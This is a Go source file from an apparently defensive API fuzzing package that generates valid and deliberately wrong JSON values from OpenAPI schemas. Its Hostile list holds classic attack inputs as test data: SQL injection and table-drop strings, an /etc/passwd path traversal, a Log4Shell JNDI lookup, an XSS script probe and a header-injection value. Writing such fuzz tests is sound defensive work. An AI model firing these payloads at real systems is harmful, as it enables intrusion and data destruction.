package fuzz

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"
	"time"

	"github.com/getkin/kin-openapi/openapi3"
)

// Values makes JSON values from OpenAPI schemas: valid ones (that the schema accepts) and broken ones.
type Values struct {
	Rand *rand.Rand
	// ID returns an id to put where the schema wants one (a string of 1–19 digits): one the service made,
	// when the caller knows some, so valid requests reach real objects.
	ID func(r *rand.Rand) string
	// Known gives a known-good value for a member or parameter by name, or false.
	Known func(name string) (any, bool)
	n     int
}

// idPattern is the spec's pattern of ids.
const idPattern = "^[0-9]{1,19}$"

// Valid returns a value the schema accepts (as far as one can be built from the schema alone), using
// the schema's example when building one fails.
func (v *Values) Valid(s *openapi3.Schema, name string) any {
	val := v.valid(s, name, 0)
	if s != nil && s.VisitJSON(val) != nil && s.Example != nil {
		return s.Example
	}
	return val
}

func (v *Values) valid(s *openapi3.Schema, name string, depth int) any {
	if v.Known != nil && name != "" {
		// A known value, where the schema takes it: a member named like a known one may mean another
		// thing (the set-up link's token is no access token).
		if k, ok := v.Known(name); ok && (s == nil || s.VisitJSON(k) == nil) {
			return k
		}
	}
	if s == nil {
		return "x"
	}
	if len(s.Enum) > 0 {
		return s.Enum[v.Rand.IntN(len(s.Enum))]
	}
	if len(s.AllOf) > 0 {
		merged := map[string]any{}
		for _, sub := range s.AllOf {
			if m, ok := v.valid(sub.Value, name, depth+1).(map[string]any); ok {
				for k, x := range m {
					merged[k] = x
				}
			}
		}
		return merged
	}
	if len(s.OneOf) > 0 {
		return v.valid(s.OneOf[0].Value, name, depth+1)
	}
	if len(s.AnyOf) > 0 {
		return v.valid(s.AnyOf[0].Value, name, depth+1)
	}
	switch {
	case s.Type.Is(openapi3.TypeObject) || (s.Type == nil && len(s.Properties) > 0):
		out := map[string]any{}
		if depth > 6 {
			return out
		}
		required := map[string]bool{}
		for _, r := range s.Required {
			required[r] = true
		}
		for _, p := range sortedKeys(s.Properties) {
			if required[p] || v.Rand.IntN(2) == 0 {
				out[p] = v.valid(s.Properties[p].Value, p, depth+1)
			}
		}
		return out
	case s.Type.Is(openapi3.TypeArray):
		n := int(s.MinItems)
		if v.Rand.IntN(2) == 0 {
			n++
		}
		if s.MaxItems != nil && uint64(n) > *s.MaxItems {
			n = int(*s.MaxItems)
		}
		out := make([]any, 0, n)
		seen := map[string]bool{}
		for tries := 0; len(out) < n && tries < 10*n+10; tries++ {
			var item *openapi3.Schema
			if s.Items != nil {
				item = s.Items.Value
			}
			x := v.valid(item, name, depth+1)
			if k := fmt.Sprint(x); !seen[k] || !s.UniqueItems {
				seen[k] = true
				out = append(out, x)
			}
		}
		return out
	case s.Type.Is(openapi3.TypeInteger):
		lo, hi := 0.0, 1000.0
		if s.Min != nil {
			lo = *s.Min
		}
		if s.Max != nil {
			hi = *s.Max
		} else if lo > hi {
			hi = lo + 1000
		}
		return int64(lo) + v.Rand.Int64N(int64(hi-lo)+1)
	case s.Type.Is(openapi3.TypeNumber):
		lo, hi := 0.0, 1000.0
		if s.Min != nil {
			lo = *s.Min
		}
		if s.Max != nil {
			hi = *s.Max
		}
		return lo + v.Rand.Float64()*(hi-lo)
	case s.Type.Is(openapi3.TypeBoolean):
		return v.Rand.IntN(2) == 0
	default:
		return v.validString(s, name)
	}
}

func (v *Values) validString(s *openapi3.Schema, name string) string {
	v.n++
	switch {
	case s.Pattern == idPattern && v.ID != nil:
		return v.ID(v.Rand)
	case s.Format == "email":
		return fmt.Sprintf("fuzz-%d-%d@example.com", v.n, v.Rand.IntN(1e6))
	case s.Format == "uri" || strings.Contains(strings.ToLower(name), "uri"):
		return fmt.Sprintf("https://fuzz.example/cb/%d", v.n)
	case s.Format == "date-time":
		return time.Now().UTC().Format(time.RFC3339)
	case s.Format == "date":
		return time.Now().UTC().Format("2006-01-02")
	case s.Format == "uuid":
		return fmt.Sprintf("%08x-0000-4000-8000-%012x", v.Rand.Uint32(), v.Rand.Uint64()&0xffffffffffff)
	case s.Example != nil && v.Rand.IntN(3) == 0:
		if ex, ok := s.Example.(string); ok {
			return ex
		}
	}
	str := fmt.Sprintf("fuzz%d%c", v.n, 'a'+rune(v.Rand.IntN(26)))
	for uint64(len(str)) < s.MinLength {
		str += "x"
	}
	if s.MaxLength != nil && uint64(len(str)) > *s.MaxLength {
		str = str[:*s.MaxLength]
	}
	if s.Pattern != "" && s.VisitJSON(str) != nil {
		if ex, ok := s.Example.(string); ok {
			return ex
		}
	}
	return str
}

// Hostile are strings that parsers, databases and templates have choked on.
var Hostile = []string{
	"", " ", "\x00", "a\x00b", "\xff\xfe\xfd", "\xc3\x28", "\xed\xa0\x80", "\u202egnp.exe",
	strings.Repeat("A", 70_000), strings.Repeat("é", 5_000), strings.Repeat("😀", 1000),
	"' OR '1'='1' --", "'; DROP TABLE users; --", "../../../../etc/passwd", "${jndi:ldap://x.invalid/a}",
	"<script>alert(1)</script>", "%s%n%x%d", "\r\nSet-Cookie: a=b", "\t\n\v\f\r", "null", "true", "-0",
	"1e309", "0x1F", "{{.}}", "\\", "\"", "%00", "%ff", "\x7f\x1b[2J",
}

// BadIDs are path ids the service must refuse with 400 (or, when well-formed, answer 404).
var BadIDs = []string{
	"0", "-1", "+1", "1.5", "1e3", "abc", "9223372036854775807", "9223372036854775808",
	"9999999999999999999", "99999999999999999999", "00000000000000000001", " 1", "1 ", "\x00",
	"1\x00", "\xff", "١٢٣", strings.Repeat("9", 5000), "0x10", "NaN", "null", "[]", "%",
}

// Broken returns a value of the wrong type for s.
func (v *Values) Broken(s *openapi3.Schema) any {
	choices := []any{12345, -1, 1.5, true, nil, []any{"a"}, map[string]any{"a": 1}, "text",
		strings.Repeat("x", 2000), 1e300, -9223372036854775808}
	for tries := 0; tries < 20; tries++ {
		c := choices[v.Rand.IntN(len(choices))]
		if s == nil || s.VisitJSON(c) != nil {
			return c
		}
	}
	return map[string]any{"unexpected": []any{nil}}
}

func sortedKeys[T any](m map[string]T) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
